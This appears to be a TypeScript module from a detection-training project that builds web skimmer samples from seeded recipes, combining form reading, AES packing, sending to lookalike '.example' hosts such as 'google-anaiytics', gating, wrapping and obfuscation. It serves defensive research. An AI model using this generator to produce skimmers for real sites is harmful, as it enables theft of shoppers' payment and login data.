// Owns the making of skimmers for training and measuring: how they read, hide, ask, pack, send and are obfuscated, in every combination that a seed asks for. Nothing of it is ever
// run outside a laboratory, and its hosts are of the domains kept for documentation.

import { type Gate, gated, gates, type Wrap, wrapped, wraps } from './guard.ts'
import { type Hiding, hide, hidings } from './hide.ts'
import { type Obfuscation, obfuscate, obfuscations } from './obfuscate.ts'
import { chanceOf } from './random.ts'
import { type Reading, readCode, readings } from './read.ts'
import { type Packing, packed, packings, type Sending, sendCode, sendings } from './send.ts'

export interface Recipe {
  reading: Reading
  sending: Sending
  packing: Packing
  hiding: Hiding
  gate: Gate
  wrap: Wrap
  obfuscation: Obfuscation
}

export interface Skimmer extends Recipe {
  seed: number
  host: string
  code: string
}

const stems = [
  'cdn-stat',
  'jquery-libs',
  'google-anaiytics',
  'mage-store',
  'static-checkout',
  'js-metrics',
  'pixel-tag',
  'shop-assets',
  'font-cdn',
  'cloud-track',
  'tagmngr',
  'secure-pay-js',
]

/** A recipe by chance; `fixed` keeps some of it. */
export function recipeOf(seed: number, fixed: Partial<Recipe> = {}): Recipe {
  const chance = chanceOf(seed * 7 + 1)
  return {
    reading: chance.pick(readings),
    sending: chance.pick(sendings),
    packing: chance.pick(packings),
    hiding: chance.pick(hidings),
    gate: chance.pick(gates),
    wrap: chance.pick(wraps),
    obfuscation: chance.pick(obfuscations),
    ...fixed,
  }
}

/** Makes the skimmer of a recipe. The same seed and recipe give the same code. */
export async function generateSkimmer(seed: number, recipe: Recipe): Promise<Skimmer> {
  const chance = chanceOf(seed)
  const host = `${chance.pick(stems)}${chance.between(1, 999)}.example`
  const text = (plain: string) => hide(plain, recipe.hiding, chance)
  const [take, value] = [chance.name(), chance.name()]
  const address = text(`https://${host}/`)
  const data = packed(recipe.packing, value, chance)
  const send =
    recipe.packing === 'aes'
      ? `crypto.subtle.generateKey({name:"AES-GCM",length:256},false,["encrypt"]).then(function(k){return crypto.subtle.encrypt({name:"AES-GCM",iv:new Uint8Array(12)},k,new TextEncoder().encode(${value}))}).then(function(c){var ${value}x=btoa(String.fromCharCode.apply(null,new Uint8Array(c)));${sendCode(recipe.sending, `${value}x`, address, chance)}});`
      : sendCode(recipe.sending, data, address, chance)
  const code = `function ${take}(${value}){${send}}${readCode(recipe.reading, take, text, chance)}`
  const dressed = wrapped(recipe.wrap, gated(recipe.gate, code, text, chance), chance)
  return { ...recipe, seed, host, code: await obfuscate(recipe.obfuscation, dressed, seed, chance) }
}
